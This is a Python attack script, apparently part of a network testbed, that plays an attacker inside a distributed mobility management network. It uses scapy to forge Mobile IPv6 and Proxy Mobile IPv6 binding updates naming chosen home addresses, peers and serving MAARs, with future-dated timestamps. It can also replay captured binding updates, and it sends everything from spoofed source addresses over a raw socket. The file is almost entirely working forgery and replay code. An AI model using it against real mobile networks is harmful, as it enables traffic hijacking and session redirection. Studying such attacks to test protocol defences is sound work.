"""An attacker inside the network: crafts messages of MAARs with scapy, or sends captured ones.

Run by itself on a node; each line of its input is a JSON object, and is answered by one when what
it asks for has been sent.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time
from typing import Any

from scapy.layers.inet6 import MIP6MH_BU, IPv6, MIP6OptUnknown
from scapy.utils import PcapNgReader

IDENTIFIER, PREFIX, TIMESTAMP, SERVING_MAAR, SESSION_HOME = 8, 22, 27, 68, 243
MOVED, CORRESPONDENT = 1, 2
E = 0x0100  # which scapy takes for a reserved bit
FREEBIND = 78  # IPV6_FREEBIND of linux/in6.h


def octets(address: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6, address)


def option(kind: int, contents: bytes) -> Any:
    return MIP6OptUnknown(otype=kind, odata=contents)


def session(role: int, address: str) -> Any:
    return option(SESSION_HOME, bytes([role, 0]) + octets(address))


def now() -> Any:
    """The node attached a moment from now, later than wherever it really did."""
    return option(TIMESTAMP, struct.pack("!Q", int((time.time() + 2) * 65536)))


def made(order: dict[str, Any], flags: int, options: list[Any]) -> list[bytes]:
    """The update of each of ``sequences``."""
    header = IPv6(src=order["source"], dst=order["destination"], nh=135)
    about = {"flags": "PA", "reserved": flags, "mhtime": order.get("lifetime", 15)}
    return [bytes(header / MIP6MH_BU(seq=n, options=options, **about)) for n in order["sequences"]]


def sdbu(order: dict[str, Any]) -> list[bytes]:
    """Step 5: the node named has come to the sender."""
    who = option(IDENTIFIER, b"\1" + order["identifier"].encode())
    pair = [session(MOVED, order["home"]), session(CORRESPONDENT, order["peer"])]
    return made(order, 0, [who, *pair, now()])


def ddbu(order: dict[str, Any]) -> list[bytes]:
    """Step 7: the home address is at ``maar`` now."""
    maar = option(SERVING_MAAR, octets(order["maar"]))
    options = [session(MOVED, order["home"]), maar, session(CORRESPONDENT, order["peer"]), now()]
    return made(order, E, options)


def pbu(order: dict[str, Any]) -> list[bytes]:
    """A Proxy Binding Update of RFC 5213: its P is the D of the draft."""
    who = option(IDENTIFIER, b"\1" + order["identifier"].encode())
    prefix = option(PREFIX, bytes([0, 64]) + octets(order["home"])[:8] + bytes(8))
    return made(order, 0, [who, prefix, option(23, b"\0\3"), option(24, b"\0\4"), now()])


def replay(order: dict[str, Any]) -> list[bytes]:
    """The updates that a capture has of ``source`` to ``destination``, as they were."""
    ends = order["source"], order["destination"]
    packets = (packet[IPv6] for packet in PcapNgReader(order["capture"]) if IPv6 in packet)
    return [bytes(p) for p in packets if MIP6MH_BU in p and (p.src, p.dst) == ends]


ATTACKS = {"sdbu": sdbu, "ddbu": ddbu, "pbu": pbu, "replay": replay}


def main() -> None:
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IPV6, FREEBIND, 1)
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        order = json.loads(line)
        packets = ATTACKS[order["do"]](order)
        for packet in packets:
            raw.sendto(packet, (socket.inet_ntop(socket.AF_INET6, packet[24:40]), 0))
        print(json.dumps({"sent": len(packets)}), flush=True)


main()
